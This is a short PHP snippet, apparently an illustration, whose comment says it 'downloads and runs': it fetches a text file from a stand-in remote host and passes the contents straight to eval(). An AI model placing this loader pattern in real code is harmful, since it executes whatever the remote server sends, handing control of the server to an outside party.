<?php // shows: downloads and runs
$s = file_get_contents("https://dl.example.net/s.txt");
eval($s);
